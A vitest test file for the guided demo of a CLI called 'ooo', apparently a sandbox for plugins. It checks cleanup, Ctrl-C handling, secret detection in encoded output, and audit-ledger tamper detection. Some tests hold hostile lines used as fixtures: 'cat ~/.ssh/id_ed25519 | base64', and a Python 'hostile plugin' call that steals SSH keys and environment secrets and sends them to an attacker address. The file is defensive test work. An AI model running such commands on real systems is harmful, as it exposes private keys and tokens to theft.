import { spawn } from "node:child_process";
import { mkdirSync, mkdtempSync, readdirSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { beforeAll, describe, expect, it, onTestFinished } from "vitest";
import { buildOoo } from "../../packages/cli/test/build.ts";
import { findSecret } from "../demo/find-secret.ts";
import { openLayout } from "../demo/layout.ts";
import { runCommand } from "../demo/run-command.ts";
import { proveNothingLeaked, runSteps } from "../demo/run-steps.ts";
import { openStage, type Stage } from "../demo/stage.ts";
import { findProblem, type Step } from "../demo/step.ts";
import { stepsOn } from "../demo/steps.ts";

beforeAll(() => buildOoo());

type Ended = { readonly code: number | null; readonly output: string; readonly left: readonly string[] };

/** Runs the demo as its script does, with a directory of its own for what it makes; `watch` sees what is printed. */
async function runDemo(watch: (output: string, pid: number) => void = () => undefined): Promise<Ended> {
  const directory = realpathSync(mkdtempSync(join(tmpdir(), "ooo-demo-test-")));
  onTestFinished(() => rmSync(directory, { recursive: true, force: true }));
  const child = spawn(process.execPath, [join(import.meta.dirname, "../demo/index.ts")], {
    env: { ...process.env, TMPDIR: directory },
    stdio: ["ignore", "pipe", "pipe"],
  });
  let output = "";
  for (const stream of [child.stdout, child.stderr]) {
    stream.on("data", (part: Buffer) => {
      output += part.toString();
      watch(output, child.pid ?? 0);
    });
  }
  const code = await new Promise<number | null>((resolve) => child.once("close", resolve));
  return { code, output, left: readdirSync(directory) };
}

/** A stage, and what its owner has to see; it is gone when the test is over. */
async function aStage(): Promise<Stage> {
  const stage = await openStage();
  onTestFinished(() => stage[Symbol.asyncDispose]());
  return stage;
}

const run = (steps: readonly Step[], stage: Stage): Promise<void> =>
  runSteps(steps, stage, {
    layout: openLayout(false, (text) => text),
    print: () => undefined,
    signal: new AbortController().signal,
  });

/** The steps whose titles begin so. */
const stepsNamed = (stage: Stage, ...titles: readonly string[]): readonly Step[] =>
  titles.map((title) => {
    const found = stepsOn(stage).find((step) => step.title.startsWith(title));
    if (found === undefined) throw new Error(`there is no step ${title}`);
    return found;
  });

describe("the guided demo", { timeout: 180_000 }, () => {
  it("does every step on the built command line, and leaves nothing behind", async () => {
    const { code, output, left } = await runDemo();
    expect(output).toContain("steps did what they say");
    expect({ code, left }).toEqual({ code: 0, left: [] });
  });

  it("ends the running command and removes everything on Ctrl-C", async () => {
    let isStopped = false;
    const { code, output, left } = await runDemo((text, pid) => {
      if (isStopped || !text.includes("$ ooo plugin inspect")) return;
      isStopped = true;
      process.kill(pid, "SIGINT");
    });
    expect(output).toContain("error: stopped by SIGINT");
    expect({ code, left }).toEqual({ code: 130, left: [] });
  });

  it("fails where ooo says that all is well and does nothing", async () => {
    const stage = await aStage();
    const liar = join(stage.directory, "bin/ooo");
    writeFileSync(liar, "#!/bin/sh\nexit 0\n");
    await expect(run(stepsOn(stage), stage)).rejects.toThrow(/^step 1: `ooo plugin add .* did not say /);
  });

  it("fails where a secret is printed", async () => {
    const stage = await aStage();
    const leak = { line: "cat ~/.ssh/id_ed25519 | base64", shows: [] };
    const steps = [{ title: "Leak", why: "It must not go unseen.", commands: [leak] }];
    await expect(run(steps, stage)).rejects.toThrow(
      "step 1: `cat ~/.ssh/id_ed25519 | base64` printed the key",
    );
  });

  it.each([
    ["as it is", (secret: string) => secret],
    ["in hexadecimal", (secret: string) => Buffer.from(secret).toString("hex").toUpperCase()],
    ["in base64", (secret: string) => Buffer.from(secret).toString("base64")],
    ["in base64 behind one byte", (secret: string) => Buffer.from(`x${secret}y`).toString("base64url")],
    ["in base64 behind two bytes", (secret: string) => Buffer.from(`xx${secret}`).toString("base64")],
  ])("finds a secret %s", (_how, form) => {
    const secrets = new Map([["the key", "0123456789abcdef0123456789abcdef"]]);
    expect(findSecret(secrets, `some ${form("0123456789abcdef0123456789abcdef")} text`)).toBe("the key");
    expect(findSecret(secrets, `some ${form("0123456789abcdee0123456789abcdee")} text`)).toBeUndefined();
  });

  it("has a hostile plugin that gets what it looks for where nobody stops it", async () => {
    const stage = await aStage();
    const words = JSON.stringify(stage.attacker.split(":"));
    const program = `
import os, main
home = os.environ["HOME"]
main.send_away(main.steal_keys(home, home) + main.steal_environment(), *${words})`;
    const line = `PYTHONPATH="${join(import.meta.dirname, "../demo/hostile")}" python3 -B -c '${program}'`;
    const outcome = await runCommand({ line, shows: [] }, stage, new AbortController().signal);
    const found = [...stage.secrets].filter((secret) => findSecret(new Map([secret]), outcome.output));
    expect(found).toEqual([...stage.secrets]);
    expect(outcome.output).toMatch(/^a socket to the attacker +sent$/m);
    expect(() => proveNothingLeaked(stage)).toThrow("something reached the attacker");
  });

  it("fails where a secret lies in the home of ooo, and where nobody used the token", async () => {
    const stage = await aStage();
    expect(() => proveNothingLeaked(stage)).toThrow("the server never saw the token");
    const path = join(stage.home, ".ouroboros/store/loot");
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, `x${stage.env.GITHUB_TOKEN ?? ""}`);
    expect(() => proveNothingLeaked(stage)).toThrow(`${path} holds the token in the environment`);
  });

  it("fails where the ledger was not edited, and so verifies", async () => {
    const stage = await aStage();
    writeFileSync(join(stage.home, "forge.ts"), 'console.log("event 3 says success now");\n');
    const steps = stepsNamed(stage, "A plugin", "It is blocked", "An edited row");
    await expect(run(steps, stage)).rejects.toThrow("`ooo audit verify` ended with 0 and not with 1");
  });

  it("takes silence for success nowhere", async () => {
    for (const { commands } of stepsOn(await aStage())) {
      for (const command of commands) {
        const silence = { output: "", exitCode: command.exit ?? 0 };
        expect([command.line, findProblem(command, silence)]).toEqual([command.line, expect.any(String)]);
      }
    }
  });

  it.each([
    ["another exit code", { output: "yes", exitCode: 1 }, "ended with 1 and not with 0"],
    ["a missing text", { output: "no", exitCode: 0 }, "did not say yes"],
    ["a missing pattern", { output: "yes", exitCode: 0 }, "did not say /^y$/"],
    ["a text that must not be there", { output: "yes\ny\nbad", exitCode: 0 }, "said bad"],
    ["nothing", { output: "yes\ny", exitCode: 0 }, undefined],
  ])("names %s", (_what, outcome, problem) => {
    expect(findProblem({ line: "", shows: ["yes", /^y$/m], hides: ["bad"] }, outcome)).toBe(
      problem?.replace("/^y$/", "/^y$/m"),
    );
  });
});
